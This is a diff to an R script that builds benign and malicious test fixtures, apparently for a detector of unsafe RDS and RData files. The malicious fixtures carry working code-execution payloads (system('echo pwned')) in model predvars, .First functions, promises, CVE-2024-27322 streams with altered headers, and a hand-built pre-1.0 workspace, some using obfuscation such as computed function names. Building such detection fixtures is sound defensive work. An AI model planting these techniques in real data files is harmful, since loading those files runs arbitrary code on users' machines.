@@ -74,3 +74,103 @@ save(.First, coefs, file = m("workspace_first.RData"))
 bad <- lm(mpg ~ wt, data = mtcars)
 attr(bad$terms, "predvars") <- quote(list(mpg, system("echo pwned")))
 saveRDS(bad, m("lm_predvars.rds"))
+
+# ---------------------------------------------------------------------------------------------
+# Legacy workspaces, header variants R reads, and code in model formulas (session 29).
+
+# Benign: fits of base R's recommended packages whose formulas use transforms (poly, log, splines,
+# offsets, smooths, strata, random effects) and whose calls carry option lists: the stored calls
+# and terms stay clean.
+saveRDS(lm(mpg ~ poly(wt, 2) + log(hp) + factor(cyl) + I(disp^2), data = mtcars), b("lm_transforms.rds"))
+saveRDS(lm(mpg ~ splines::ns(wt, df = 3) + splines::bs(hp, df = 3), data = mtcars), b("lm_splines.rds"))
+ins <- data.frame(n = c(10, 20, 30, 40), exposure = c(100, 150, 210, 260), g = factor(c("a", "b", "a", "b")))
+saveRDS(glm(n ~ g + offset(log(exposure)), family = poisson(link = "log"), data = ins), b("glm_offset.rds"))
+saveRDS(rpart::rpart(Species ~ ., data = iris, control = rpart::rpart.control(cp = 0.02)), b("rpart.rds"))
+saveRDS(nnet::nnet(Species ~ ., data = iris, size = 2, trace = FALSE), b("nnet.rds"))
+suppressPackageStartupMessages(library(survival))   # coxph evaluates strata() in its formula
+saveRDS(coxph(Surv(time, status) ~ age + strata(sex), data = lung), b("coxph.rds"))
+saveRDS(nlme::lme(distance ~ age, random = ~ 1 | Subject, data = nlme::Orthodont), b("lme.rds"))
+saveRDS(MASS::lda(Species ~ ., data = iris), b("lda.rds"))
+saveRDS(loess(mpg ~ wt, data = mtcars), b("loess.rds"))
+
+# Benign: version-1 workspaces, which R 4 still writes on request (uncompressed, XDR or ASCII).
+save(df, coefs, labels, file = b("workspace_v1.rda"), version = 1)
+save(coefs, labels, file = b("workspace_v1_ascii.rda"), version = 1, ascii = TRUE)
+
+# Malicious: predvars (evaluated by model.frame() during predict()) that reach system() through
+# Find() and a computed name, and through browseURL()'s browser command.
+pv <- lm(mpg ~ wt, data = mtcars)
+attr(pv$terms, "predvars") <- quote(list(mpg, {Find(paste0("sys", "tem"), "echo pwned"); wt}))
+attr(attr(pv$model, "terms"), "predvars") <- attr(pv$terms, "predvars")
+saveRDS(pv, m("lm_predvars_find.rds"))
+attr(pv$terms, "predvars") <- quote(list(mpg, {utils::browseURL("x", browser = "echo pwned;"); wt}))
+attr(attr(pv$model, "terms"), "predvars") <- attr(pv$terms, "predvars")
+saveRDS(pv, m("lm_predvars_browseurl.rds"))
+
+# Malicious: version-1 workspaces with a .First and with a promise (load() restores both).
+.First <- function() system("echo pwned")
+save(.First, coefs, file = m("workspace_first_v1.RData"), version = 1)
+save(.First, file = m("workspace_first_v1_ascii.RData"), version = 1, ascii = TRUE)
+pe <- new.env(parent = globalenv())
+delayedAssign("model", system("echo pwned"), assign.env = pe)
+save(pe, file = m("promise_env_v1.rda"), version = 1)
+rm(.First)
+
+# Malicious: the CVE-2024-27322 promise under stream headers R reads but never writes: a leading
+# newline before the ASCII format line, a signed ASCII version, writer/reader versions 0, a format
+# line "XZ". Written by serialize() and edited as bytes.
+ascii_stream <- serialize(pe, NULL, ascii = TRUE)
+xdr_stream <- serialize(pe, NULL)
+put <- function(bytes, name) {
+  con <- gzfile(m(name), "wb")
+  writeBin(bytes, con)
+  close(con)
+}
+put(c(charToRaw("\n"), ascii_stream), "promise_newline_ascii.rds")
+txt <- rawToChar(ascii_stream)
+put(charToRaw(sub("^A\n3\n", "A\n+3\n", txt)), "promise_signed_version.rds")
+zeroed <- xdr_stream
+zeroed[7:14] <- as.raw(0)                                  # writer and oldest-reader versions
+put(zeroed, "promise_zero_versions.rds")
+xz <- xdr_stream
+xz[2] <- charToRaw("Z")
+put(xz, "promise_formatline_XZ.rds")
+
+# Malicious: a pre-1.0 ASCII workspace (magic 1976), which load() and R's startup restore still
+# read: .First is function() system("echo pwned") and x a promise of system("echo pwned"). R cannot
+# write this format any more; the text follows saveload.c's DataLoad: a symbol table, the nodes'
+# offsets, then each node (index, type, levels, object bit, attributes, then car/cdr/tag offsets, a
+# vector's elements or a string), and the offset of the saved list.
+pre1 <- c(
+  "1976",
+  "3 12 0",
+  '0 10 ".First"',
+  '1 20 "system"',
+  '2 30 "x"',
+  "3 40",
+  "4 50",
+  "5 60",
+  "6 70",
+  "7 80",
+  "8 90",
+  "9 100",
+  "10 110",
+  "11 120",
+  "12 130",
+  "13 140",
+  "14 150",
+  "3 2 0 0 -1 60 50 10",
+  "4 2 0 0 -1 70 -1 30",
+  "5 3 0 0 -1 -1 80 -2",
+  "6 5 0 0 -1 -3 120 -2",
+  "7 6 0 0 -1 20 90 -1",
+  "8 2 0 0 -1 100 -1 -1",
+  "9 16 0 0 -1 1 110",
+  '10 9 0 0 -1 10 "echo pwned"',
+  "11 6 0 0 -1 20 130 -1",
+  "12 2 0 0 -1 140 -1 -1",
+  "13 16 0 0 -1 1 150",
+  '14 9 0 0 -1 10 "echo pwned"',
+  "40"
+)
+writeLines(pre1, m("workspace_pre1.RData"))
